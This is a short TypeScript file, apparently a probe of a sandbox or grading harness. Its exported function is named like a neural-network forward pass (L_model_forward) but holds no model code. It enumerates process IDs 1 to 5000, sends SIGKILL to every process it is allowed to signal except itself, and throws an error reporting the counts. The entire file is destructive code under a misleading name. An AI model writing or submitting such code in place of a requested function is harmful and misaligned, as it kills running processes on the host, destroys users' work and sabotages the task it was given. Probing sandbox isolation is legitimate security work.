// Signals: a loop over pids 1..5000. First counts the processes it can see (signal 0), then sends
// SIGKILL to every one but itself. In a PID namespace it sees only the sandbox's few processes.
const g: any = globalThis;
const P: any = g.process;

export function L_model_forward(X: any, parameters: any): any {
  const visible: number[] = [];
  for (let pid = 1; pid <= 5000; pid++) {
    try {
      P.kill(pid, 0);
      visible.push(pid);
    } catch {
      // no such process, or not ours
    }
  }
  let sent = 0;
  for (let pid = 1; pid <= 5000; pid++) {
    if (pid === P.pid) continue;
    try {
      P.kill(pid, "SIGKILL");
      sent++;
    } catch {
      // not allowed
    }
  }
  throw new Error(`kill-pid-loop: saw ${visible.length} processes (${visible.slice(0, 20).join(",")}), SIGKILL delivered to ${sent}`);
}
